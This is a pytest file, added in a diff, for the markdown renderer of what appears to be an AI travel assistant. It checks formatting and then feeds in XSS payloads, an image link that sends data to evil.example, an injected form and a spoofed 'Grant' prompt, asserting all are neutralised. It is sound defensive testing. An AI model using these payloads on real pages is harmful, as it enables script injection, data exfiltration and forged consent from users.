@@ -1,0 +1,57 @@
+"""What the assistant writes is laid out, and nothing in it runs, is fetched, or passes for the page's own."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from voyagent.assistant.markdown import as_html
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("One.\nTwo.\n\nThree.", "<p>One.<br>\nTwo.</p>\n<p>Three.</p>\n"),
+        ("**12 Dec** and *maybe* `AI 933`", "<p><strong>12 Dec</strong> and <em>maybe</em> <code>AI 933</code></p>\n"),
+        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
+        ("# Your trip", '<p class="v-strong">Your trip</p>\n'),
+        ("[visa](https://visa.example/a?b=1&c=2)", '<p><a href="https://visa.example/a?b=1&amp;c=2" rel="noopener nofollow noreferrer">visa</a></p>\n'),
+    ],
+)
+def test_it_is_laid_out(text: str, html: str) -> None:
+    assert as_html(text) == html
+
+
+def test_a_table_is_a_table() -> None:
+    assert re.sub(r"\s", "", as_html("| a | b |\n|---|---|\n| 1 | 2 |")) == (
+        "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>"
+    )
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "![a picture](https://evil.example/?q=passport)",
+        "[go](javascript:alert(1))",
+        "[go](data:text/html,<script>alert(1)</script>)",
+        "<a href='https://evil.example' onclick=alert(1)>go</a>",
+        '[go](https://evil.example "x" onmouseover="alert(1))',
+        "<form action=/assistant method=post><input name=granted value=1></form>",
+        "<svg/onload=alert(1)>",
+        "<javascript:alert(1)>",
+        "[a]: javascript:alert(1)\n\n[a]",
+        "`<b onclick=alert(1)>`",
+        "<style>*{display:none}</style>",
+        '<p class="v-ask" id="say" style="position:fixed">Grant</p>',
+    ],
+)
+def test_nothing_runs_and_nothing_is_fetched(text: str) -> None:
+    html = str(as_html(text))
+    elements = re.findall(r"<[^>]*>", html)
+    for element in elements:
+        name = element.strip("</>").split()[0]
+        assert name in {"p", "a", "code", "br", "pre"}, element
+        assert re.fullmatch(r'</?\w+>|<p class="v-strong">|<a href="https?://[^"]*" rel="noopener nofollow noreferrer">', element), element
